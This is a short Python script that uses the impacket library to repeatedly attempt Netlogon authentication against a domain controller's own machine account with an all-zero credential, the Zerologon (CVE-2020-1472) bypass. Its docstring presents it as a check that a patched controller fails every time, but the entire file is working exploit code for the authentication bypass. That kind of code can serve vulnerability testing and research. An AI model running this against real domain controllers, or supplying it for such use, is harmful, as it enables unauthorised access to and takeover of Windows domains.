"""The login of the controller's own account is guessed with a credential of zeros (CVE-2020-1472), which a controller that
is mended refuses each time.

  guesses.py SERVER TIMES
"""
import sys
from impacket.dcerpc.v5 import epm, nrpc, transport
from impacket.dcerpc.v5.dtypes import NULL

server, times = sys.argv[1], int(sys.argv[2])
dce = transport.DCERPCTransportFactory(epm.hept_map(server, nrpc.MSRPC_UUID_NRPC, protocol="ncacn_ip_tcp")).get_dce_rpc()
dce.connect()
dce.bind(nrpc.MSRPC_UUID_NRPC)
for _ in range(times):
    nrpc.hNetrServerReqChallenge(dce, NULL, "DC1\0", b"\0" * 8)
    try: nrpc.hNetrServerAuthenticate3(dce, NULL, "DC1$\0", nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel, "DC1\0", b"\0" * 8, 0x212FFFFF)
    except nrpc.DCERPCSessionError as over: print(over)
dce.disconnect()
